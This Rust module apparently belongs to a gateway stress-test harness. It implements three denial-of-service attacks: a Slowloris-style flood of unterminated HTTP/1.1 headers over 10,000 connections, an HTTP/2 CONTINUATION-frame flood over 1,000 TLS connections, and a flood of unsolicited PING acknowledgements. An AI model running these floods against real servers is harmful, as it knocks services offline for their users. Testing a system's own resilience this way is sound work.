//! Heads that never end, and frames that are no requests.

use std::sync::Arc;

use rustls::ClientConfig;
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_rustls::{TlsConnector, client::TlsStream};

use super::{Plan, connect, side_by_side};
use crate::{
    attacks::http2::{ACK, CONTINUATION, HEADERS, PING, PREFACE, SETTINGS, frame},
    client, files,
};

/// As many connections as the gateway has slots.
const CONNECTIONS: usize = 10_000;

/// One byte less than the largest head, in one line.
const HEAD: usize = 64 * 1024 - 1024;

/// Sends a head without its end on each of as many connections as there can be, and again when one is
/// closed.
pub(super) async fn http1(plan: &'static Plan) {
    let mut head = b"GET http://a/ HTTP/1.1\r\nx: ".to_vec();
    head.resize(HEAD, b'x');
    let head: Arc<[u8]> = head.into();
    side_by_side(plan, CONNECTIONS, |_| {
        let head = Arc::clone(&head);
        async move {
            while !plan.is_over() {
                if let Ok(mut stream) = connect(plan.proxy).await
                    && stream.write_all(&head).await.is_ok()
                {
                    let _ = stream.read(&mut [0; 16]).await;
                }
                tokio::task::yield_now().await;
            }
        }
    })
    .await;
}

/// Sends a header block without its end, drop by drop, on each of a thousand TLS connections.
pub(super) async fn http2(plan: &'static Plan) -> anyhow::Result<()> {
    let connector = connector(plan)?;
    let name = ServerName::try_from(files::HOST)?;
    side_by_side(plan, 1_000, |_| {
        let (connector, name) = (connector.clone(), name.clone());
        async move {
            while !plan.is_over() {
                if let Ok(stream) = connect(plan.tls).await
                    && let Ok(stream) = connector.connect(name.clone(), stream).await
                {
                    endless_block(plan, stream).await;
                }
                tokio::task::yield_now().await;
            }
        }
    })
    .await;
    Ok(())
}

async fn endless_block(plan: &Plan, mut stream: TlsStream<tokio::net::TcpStream>) {
    // A literal header that is not indexed, over and over.
    let piece = [&[0_u8, 1, b'x', 127, 129, 31][..], &[b'y'; 4096]].concat();
    let mut sent = [
        PREFACE,
        &frame(SETTINGS, 0, 0, &[]),
        &frame(HEADERS, 0, 1, &piece),
    ]
    .concat();
    while !plan.is_over() && stream.write_all(&sent).await.is_ok() {
        sent = frame(CONTINUATION, 0, 1, &piece[..32]);
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
}

/// Acknowledges pings that nobody sent, on four connections.
pub(super) async fn ping_acks(plan: &'static Plan) -> anyhow::Result<()> {
    let connector = connector(plan)?;
    let name = ServerName::try_from(files::HOST)?;
    let many: Arc<[u8]> = frame(PING, ACK, 0, &[7; 8]).repeat(1_000).into();
    side_by_side(plan, 4, |_| {
        let (connector, name, many) = (connector.clone(), name.clone(), Arc::clone(&many));
        async move {
            while !plan.is_over() {
                let Ok(stream) = connect(plan.tls).await else {
                    continue;
                };
                let Ok(stream) = connector.connect(name.clone(), stream).await else {
                    continue;
                };
                let (mut read, mut write) = tokio::io::split(stream);
                // What the gateway says back is taken, so that it never waits for room.
                let reading = tokio::spawn(async move {
                    tokio::io::copy(&mut read, &mut tokio::io::sink()).await
                });
                let greeting = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
                let mut open = write.write_all(&greeting).await.is_ok();
                while open && !plan.is_over() {
                    open = write.write_all(&many).await.is_ok();
                }
                reading.abort();
            }
        }
    })
    .await;
    Ok(())
}

fn connector(plan: &Plan) -> anyhow::Result<TlsConnector> {
    let roots = client::roots(&plan.directory.join("roots.pem"))?;
    let mut config = ClientConfig::builder()
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(TlsConnector::from(Arc::new(config)))
}
